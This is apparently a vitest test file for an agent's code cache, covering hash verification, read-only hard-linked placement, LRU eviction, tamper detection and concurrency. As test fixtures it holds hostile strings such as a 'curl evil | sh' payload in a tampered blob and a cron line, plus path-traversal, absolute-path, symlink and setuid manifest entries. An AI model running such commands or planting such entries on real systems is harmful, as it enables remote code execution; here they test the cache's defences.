// The agent's code cache: snapshots fetched from an in-memory source built from real files,
// verified, cached read-only, placed as hard links or copies, evicted, and re-fetched when changed.
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { CodeCache, CodeFetchError, type CodeSource } from "../../agent/code-cache.js";
import {
  type CodeEntry,
  type CodeManifest,
  type CodeSnapshotInfo,
  checkCodeManifest,
  codeSnapshotId,
  DEFAULT_CODE_LIMIT_BYTES,
  type GitFacts,
  snapshotMode,
  summarizeManifest,
} from "../../core/code.js";

const sha256Of = (b: Buffer | string) => createHash("sha256").update(b).digest("hex");
const modeOf = (p: string) => statSync(p).mode & 0o777;

type TreeSpec = Record<string, string | { content: string; mode: number } | { link: string }>;

interface Snapshot {
  id: string;
  info: CodeSnapshotInfo;
  blobs: Map<string, Buffer>;
}

/** Writes `spec` under `root` as real files and links, then reads it back into a snapshot the way the CLI would. */
function snapshotOfTree(root: string, spec: TreeSpec, git: GitFacts | null = null): Snapshot {
  for (const [path, what] of Object.entries(spec)) {
    const full = join(root, path);
    mkdirSync(join(full, ".."), { recursive: true });
    if (typeof what === "string") writeFileSync(full, what, { mode: 0o644 });
    else if ("link" in what) symlinkSync(what.link, full);
    else {
      writeFileSync(full, what.content);
      chmodSync(full, what.mode);
    }
  }
  const entries: CodeEntry[] = [];
  const blobs = new Map<string, Buffer>();
  const walk = (rel: string) => {
    for (const name of readdirSync(join(root, rel))) {
      const path = rel ? `${rel}/${name}` : name;
      const st = lstatSync(join(root, path));
      if (st.isDirectory()) walk(path);
      else if (st.isSymbolicLink()) entries.push({ path, link: readlinkSync(join(root, path)) });
      else {
        const content = readFileSync(join(root, path));
        blobs.set(sha256Of(content), content);
        entries.push({ path, size: content.length, sha256: sha256Of(content), mode: snapshotMode(st.mode) });
      }
    }
  };
  walk("");
  const manifest = checkCodeManifest({ version: 1, entries, git }, { maxBytes: DEFAULT_CODE_LIMIT_BYTES });
  return infoOf(manifest, blobs);
}

function infoOf(manifest: CodeManifest, blobs: Map<string, Buffer>): Snapshot {
  const id = codeSnapshotId(manifest);
  return { id, info: { ...summarizeManifest(id, manifest), manifest, createdAt: "2025-01-01T00:00:00.000Z", createdBy: "ada" }, blobs };
}

class MemorySource implements CodeSource {
  readonly snapshots = new Map<string, CodeSnapshotInfo>();
  readonly blobs = new Map<string, Buffer>();
  readonly snapshotCalls: string[] = [];
  readonly blobCalls: string[] = [];

  add(s: Snapshot): this {
    this.snapshots.set(s.id, s.info);
    for (const [sha, b] of s.blobs) this.blobs.set(sha, b);
    return this;
  }

  async snapshot(id: string): Promise<CodeSnapshotInfo> {
    this.snapshotCalls.push(id);
    const info = this.snapshots.get(id);
    if (!info) throw new Error(`HTTP 404: no snapshot ${id}`);
    return structuredClone(info);
  }

  async blob(_snapshotId: string, sha256: string): Promise<Buffer> {
    this.blobCalls.push(sha256);
    await new Promise((r) => setTimeout(r, 2));
    const b = this.blobs.get(sha256);
    if (!b) throw new Error(`HTTP 404: no blob ${sha256}`);
    return Buffer.from(b);
  }
}

let root: string;
let cacheDir: string;
let work: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "labrig-code-cache-"));
  cacheDir = join(root, "cache");
  work = join(root, "work");
  mkdirSync(work);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const cacheFile = (sha: string, mode: number) => join(cacheDir, "blobs", `${sha}.${mode.toString(8)}`);
const cachedNames = () => [...readdirSync(join(cacheDir, "blobs")), ...readdirSync(join(cacheDir, "snapshots"))];

const trainPy = "import torch\nprint('train')\n";
const runSh = "#!/bin/sh\nexec python train.py \"$@\"\n";
const configYaml = "lr: 0.1\nepochs: 90\n";
const projectTree: TreeSpec = {
  "train.py": trainPy,
  "run.sh": { content: runSh, mode: 0o755 },
  "configs/base/imagenet.yaml": configYaml,
  "configs/current.yaml": { link: "base/imagenet.yaml" },
};

describe("CodeCache.materialize", () => {
  it("places files, nested folders and an in-tree link as hard links to read-only cache files", async () => {
    const snap = snapshotOfTree(join(root, "src"), projectTree);
    const source = new MemorySource().add(snap);
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });
    const dest = join(work, "job-1", "code");

    const got = await cache.materialize(snap.id, dest, source);

    expect(got).toEqual({ dir: dest, files: 3, bytes: snap.info.bytes, fetchedBytes: snap.info.bytes, method: "hardlink", git: null });
    expect(readFileSync(join(dest, "train.py"), "utf8")).toBe(trainPy);
    expect(readFileSync(join(dest, "run.sh"), "utf8")).toBe(runSh);
    expect(readFileSync(join(dest, "configs/base/imagenet.yaml"), "utf8")).toBe(configYaml);
    // A hard link shares the cache file's mode: write bits off, execute kept.
    expect(modeOf(join(dest, "train.py"))).toBe(0o400);
    expect(modeOf(join(dest, "run.sh"))).toBe(0o500);
    expect(modeOf(dest)).toBe(0o700);
    expect(modeOf(join(dest, "configs/base"))).toBe(0o700);
    expect(lstatSync(join(dest, "configs/current.yaml")).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(dest, "configs/current.yaml"))).toBe("base/imagenet.yaml");
    expect(readFileSync(join(dest, "configs/current.yaml"), "utf8")).toBe(configYaml);
    expect(statSync(join(dest, "train.py")).ino).toBe(statSync(cacheFile(sha256Of(trainPy), 0o600)).ino);
    expect(statSync(join(dest, "run.sh")).ino).toBe(statSync(cacheFile(sha256Of(runSh), 0o700)).ino);
    expect(modeOf(cacheDir)).toBe(0o700);

    const again = await cache.materialize(snap.id, join(work, "job-2", "code"), source);
    expect(again.fetchedBytes).toBe(0);
    expect(readFileSync(join(work, "job-2", "code", "train.py"), "utf8")).toBe(trainPy);
    expect(source.snapshotCalls).toHaveLength(1);
    expect(source.blobCalls).toHaveLength(3);
  });

  it("hands out writable copies with the manifest's modes under link: false", async () => {
    const snap = snapshotOfTree(join(root, "src"), projectTree);
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });
    const dest = join(work, "code");

    const got = await cache.materialize(snap.id, dest, new MemorySource().add(snap), { link: false });

    expect(got.method).toBe("copy");
    expect(modeOf(join(dest, "train.py"))).toBe(0o600);
    expect(modeOf(join(dest, "run.sh"))).toBe(0o700);
    expect(statSync(join(dest, "train.py")).ino).not.toBe(statSync(cacheFile(sha256Of(trainPy), 0o600)).ino);
    writeFileSync(join(dest, "train.py"), "edited\n");
    expect(readFileSync(cacheFile(sha256Of(trainPy), 0o600), "utf8")).toBe(trainPy);
    expect(readlinkSync(join(dest, "configs/current.yaml"))).toBe("base/imagenet.yaml");
  });

  it.runIf(existsSync("/dev/shm") && statSync("/dev/shm").dev !== statSync(tmpdir()).dev)(
    "copies when the cache is on another file system (EXDEV) and logs why",
    async () => {
      const snap = snapshotOfTree(join(root, "src"), projectTree);
      const shmCache = mkdtempSync("/dev/shm/labrig-code-cache-");
      const lines: string[] = [];
      try {
        const cache = new CodeCache({ dir: shmCache, maxBytes: 1 << 20, log: (m) => lines.push(m) });
        const got = await cache.materialize(snap.id, join(work, "code"), new MemorySource().add(snap));
        expect(got.method).toBe("copy");
        expect(modeOf(join(work, "code", "train.py"))).toBe(0o600);
        expect(modeOf(join(work, "code", "run.sh"))).toBe(0o700);
        expect(lines.join("\n")).toMatch(/cannot hard-link .*EXDEV/);
      } finally {
        rmSync(shmCache, { recursive: true, force: true });
      }
    },
  );

  it("keeps one content with two modes as two cache files, fetched once", async () => {
    const snap = snapshotOfTree(join(root, "src"), { "a.sh": { content: "same\n", mode: 0o700 }, "b.txt": "same\n" });
    const source = new MemorySource().add(snap);
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });

    const got = await cache.materialize(snap.id, join(work, "code"), source);

    expect(source.blobCalls).toEqual([sha256Of("same\n")]);
    expect(got.fetchedBytes).toBe(5);
    expect(modeOf(cacheFile(sha256Of("same\n"), 0o700))).toBe(0o500);
    expect(modeOf(cacheFile(sha256Of("same\n"), 0o600))).toBe(0o400);
    expect(modeOf(join(work, "code", "a.sh"))).toBe(0o500);
    expect(modeOf(join(work, "code", "b.txt"))).toBe(0o400);
  });

  it("returns the manifest's git facts and does not fetch the diff blob, which the tree does not need", async () => {
    const git: GitFacts = { commit: "0123456789abcdef", branch: "main", dirty: true, diffSha256: sha256Of("diff"), diffBytes: 4 };
    const snap = snapshotOfTree(join(root, "src"), { "train.py": trainPy }, git);
    const source = new MemorySource().add(snap);

    const got = await new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 }).materialize(snap.id, join(work, "code"), source);

    expect(got.git).toEqual(git);
    expect(source.blobCalls).toEqual([sha256Of(trainPy)]);
  });

  it("refuses a dest that holds anything, before fetching", async () => {
    const snap = snapshotOfTree(join(root, "src"), projectTree);
    const source = new MemorySource().add(snap);
    const dest = join(work, "code");
    mkdirSync(dest);
    writeFileSync(join(dest, "notes.txt"), "mine\n");

    await expect(new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 }).materialize(snap.id, dest, source)).rejects.toThrow(/not empty/);

    expect(source.snapshotCalls).toEqual([]);
    expect(readdirSync(dest)).toEqual(["notes.txt"]);
  });

  it("fills an empty dest that exists already", async () => {
    const snap = snapshotOfTree(join(root, "src"), projectTree);
    const dest = join(work, "code");
    mkdirSync(dest);

    await new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 }).materialize(snap.id, dest, new MemorySource().add(snap));

    expect(readFileSync(join(dest, "train.py"), "utf8")).toBe(trainPy);
  });

  it("keeps what it fetched across instances and removes cache files the index does not know", async () => {
    const snap = snapshotOfTree(join(root, "src"), projectTree);
    const source = new MemorySource().add(snap);
    const first = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });
    await first.materialize(snap.id, join(work, "a"), source);
    writeFileSync(join(cacheDir, "blobs", `.leftover.tmp`), "half");

    const second = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });
    const got = await second.materialize(snap.id, join(work, "b"), source);

    expect(second.size()).toBe(first.size());
    expect(got.fetchedBytes).toBe(0);
    expect(source.snapshotCalls).toHaveLength(1);
    expect(existsSync(join(cacheDir, "blobs", ".leftover.tmp"))).toBe(false);
  });
});

describe("CodeCache verification", () => {
  it("refuses a blob whose bytes do not match its hash: nothing cached, dest removed", async () => {
    const snap = snapshotOfTree(join(root, "src"), { "train.py": trainPy });
    const source = new MemorySource().add(snap);
    const sha = sha256Of(trainPy);
    source.blobs.set(sha, Buffer.from("import os; os.system('curl evil | sh')\n"));
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });
    const dest = join(work, "code");

    const err = await cache.materialize(snap.id, dest, source).catch((e: unknown) => e);

    expect(err).toBeInstanceOf(CodeFetchError);
    expect((err as Error).message).toContain(
      `blob ${sha} of snapshot ${snap.id} has sha256 ${sha256Of("import os; os.system('curl evil | sh')\n")}, not ${sha}`,
    );
    expect(cachedNames()).toEqual([]);
    expect(cache.size()).toBe(0);
    expect(existsSync(dest)).toBe(false);
    expect(readdirSync(work)).toEqual([]);
  });

  it("refuses snapshot info whose manifest does not hash to the id asked for", async () => {
    const asked = snapshotOfTree(join(root, "a"), { "train.py": trainPy });
    const other = snapshotOfTree(join(root, "b"), { "train.py": "print('other')\n" });
    const source = new MemorySource().add(other);
    source.snapshots.set(asked.id, other.info);

    await expect(new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 }).materialize(asked.id, join(work, "code"), source)).rejects.toThrow(
      `its manifest hashes to ${other.id}, not ${asked.id}`,
    );

    expect(source.blobCalls).toEqual([]);
    expect(readdirSync(work)).toEqual([]);
  });

  it("refuses an id that is not a sha256 before using it as a file name", async () => {
    await expect(new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 }).materialize("../../x", join(work, "code"), new MemorySource())).rejects.toThrow(
      /not a code snapshot id/,
    );
  });

  const blob = Buffer.from("* * * * * root curl evil | sh\n");
  const file = (path: string, extra: Partial<{ size: number; mode: number }> = {}) => ({ path, size: blob.length, sha256: sha256Of(blob), mode: 0o600, ...extra });
  it.each([
    ["a name that climbs out", [file("../../etc/cron.d/x")], /leaves the snapshot \('\.\.'\)/],
    ["an absolute name", [file("/etc/passwd")], /the path is absolute/],
    ["a link to /", [{ path: "root", link: "/" }], /link to an absolute path \(\/\)/],
    ["a link that climbs out", [{ path: "x", link: "../../x" }], /points outside the tree/],
    [
      "a link that climbs out through another link",
      [file("p/f"), { path: "a/b/c/x", link: "../../../p" }, { path: "a/b/c/t", link: "x/../../.." }],
      /'\.\.' after a name/,
    ],
    ["a setuid mode", [file("suid", { mode: 0o4755 })], /mode 04755/],
    ["a claimed 10 GB file", [file("huge.bin", { size: 10 * 1024 ** 3 })], /claims 10737418240 bytes/],
  ])("refuses a manifest with %s and writes nothing outside dest", async (_what, entries, reason) => {
    const manifest = { version: 1 as const, entries, git: null };
    const hostile = { id: codeSnapshotId(manifest), info: { snapshot: "", files: 1, bytes: blob.length, git: null, manifest, createdAt: "", createdBy: null } };
    hostile.info.snapshot = hostile.id;
    const source = new MemorySource();
    source.snapshots.set(hostile.id, hostile.info);
    source.blobs.set(sha256Of(blob), blob);
    const before = readdirSync(root).sort();

    const err = await new CodeCache({ dir: cacheDir, maxBytes: 1 << 40 }).materialize(hostile.id, join(work, "job", "code"), source).catch((e: unknown) => e);

    expect(err).toBeInstanceOf(CodeFetchError);
    expect((err as Error).message).toMatch(`code snapshot ${hostile.id} is refused`);
    expect((err as Error).message).toMatch(reason);
    expect(source.blobCalls).toEqual([]);
    expect(readdirSync(root).sort()).toEqual([...new Set([...before, "cache"])].sort());
    expect(readdirSync(work)).toEqual([]);
    expect(cachedNames()).toEqual([]);
  });
});

describe("CodeCache eviction", () => {
  it("evicts the least recently used blobs past maxBytes, never the snapshot just placed", async () => {
    const a = snapshotOfTree(join(root, "a"), { "weights-a.bin": "a".repeat(1000) });
    const b = snapshotOfTree(join(root, "b"), { "weights-b.bin": "b".repeat(1000) });
    const source = new MemorySource().add(a).add(b);
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1500 });
    const blobA = cacheFile(sha256Of("a".repeat(1000)), 0o600);
    const blobB = cacheFile(sha256Of("b".repeat(1000)), 0o600);

    await cache.materialize(a.id, join(work, "1"), source);
    expect(existsSync(blobA)).toBe(true);
    await cache.materialize(b.id, join(work, "2"), source);

    expect(existsSync(blobA)).toBe(false);
    expect(existsSync(blobB)).toBe(true);
    expect(cache.size()).toBeLessThanOrEqual(1500);
    // The evicted blob's old hard link still holds the content: eviction only drops the cache's name.
    expect(readFileSync(join(work, "1", "weights-a.bin"), "utf8")).toBe("a".repeat(1000));

    const again = await cache.materialize(a.id, join(work, "3"), source);
    expect(again.fetchedBytes).toBe(1000);
    expect(source.blobCalls.filter((s) => s === sha256Of("a".repeat(1000)))).toHaveLength(2);
    expect(existsSync(blobB)).toBe(false);
  });

  it("places a snapshot bigger than the bound and keeps it until the next one", async () => {
    const a = snapshotOfTree(join(root, "a"), { "weights-a.bin": "a".repeat(1000) });
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 100 });

    await cache.materialize(a.id, join(work, "1"), new MemorySource().add(a));

    expect(cache.size()).toBeGreaterThan(1000);
    expect(existsSync(cacheFile(sha256Of("a".repeat(1000)), 0o600))).toBe(true);
  });
});

describe("CodeCache tamper checks", () => {
  const setUp = async () => {
    const snap = snapshotOfTree(join(root, "src"), { "train.py": trainPy });
    const source = new MemorySource().add(snap);
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });
    await cache.materialize(snap.id, join(work, "1"), source);
    return { snap, source, cache, file: cacheFile(sha256Of(trainPy), 0o600) };
  };

  it.each([
    ["keeps its size", trainPy.replace("train", "TRAIN")],
    ["changes its size", `${trainPy}import os; os.system('evil')\n`],
  ])("fetches again a cached blob made writable and changed that %s", async (_what, evil) => {
    const { source, cache, file, snap } = await setUp();
    chmodSync(file, 0o600);
    writeFileSync(file, evil);
    execFileSync("touch", ["-m", "-d", "@1000000000", file]);

    const got = await cache.materialize(snap.id, join(work, "2"), source);

    expect(got.fetchedBytes).toBe(trainPy.length);
    expect(source.blobCalls).toHaveLength(2);
    expect(readFileSync(join(work, "2", "train.py"), "utf8")).toBe(trainPy);
    expect(modeOf(file)).toBe(0o400);
  });

  it("fetches again a changed blob whose size, mtime and mode were put back (its ctime moved)", async () => {
    const { source, cache, file, snap } = await setUp();
    const before = statSync(file, { bigint: true });
    chmodSync(file, 0o600);
    writeFileSync(file, trainPy.replace("train", "TRAIN"));
    chmodSync(file, 0o400);
    const ns = before.mtimeNs;
    execFileSync("touch", ["-m", "-d", `@${ns / 1_000_000_000n}.${(ns % 1_000_000_000n).toString().padStart(9, "0")}`, file]);
    expect(statSync(file, { bigint: true }).mtimeNs).toBe(before.mtimeNs);

    const got = await cache.materialize(snap.id, join(work, "2"), source);

    expect(got.fetchedBytes).toBe(trainPy.length);
    expect(readFileSync(join(work, "2", "train.py"), "utf8")).toBe(trainPy);
  });

  it("keeps a blob whose ctime moved only because a job removed its tree", async () => {
    const { source, cache, snap } = await setUp();
    rmSync(join(work, "1"), { recursive: true });

    const got = await cache.materialize(snap.id, join(work, "2"), source);

    expect(got.fetchedBytes).toBe(0);
    expect(source.blobCalls).toHaveLength(1);
  });
});

describe("CodeCache concurrency", () => {
  it("places the same snapshot for two jobs at once and fetches each blob once", async () => {
    const snap = snapshotOfTree(join(root, "src"), projectTree);
    const source = new MemorySource().add(snap);
    const cache = new CodeCache({ dir: cacheDir, maxBytes: 1 << 20 });

    const [one, two] = await Promise.all([
      cache.materialize(snap.id, join(work, "1"), source),
      cache.materialize(snap.id, join(work, "2"), source),
    ]);

    expect(one.fetchedBytes + two.fetchedBytes).toBe(snap.info.bytes);
    expect(source.blobCalls.sort()).toEqual([sha256Of(configYaml), sha256Of(runSh), sha256Of(trainPy)].sort());
    expect(source.snapshotCalls).toHaveLength(1);
    for (const dest of [join(work, "1"), join(work, "2")]) {
      expect(readFileSync(join(dest, "train.py"), "utf8")).toBe(trainPy);
      expect(readFileSync(join(dest, "configs/current.yaml"), "utf8")).toBe(configYaml);
    }
    const index = JSON.parse(readFileSync(join(cacheDir, "index.json"), "utf8")) as Record<string, unknown>;
    expect(Object.keys(index).sort()).toEqual(
      [`snapshots/${snap.id}.json`, ...[trainPy, configYaml].map((c) => `blobs/${sha256Of(c)}.600`), `blobs/${sha256Of(runSh)}.700`].sort(),
    );
  });
});
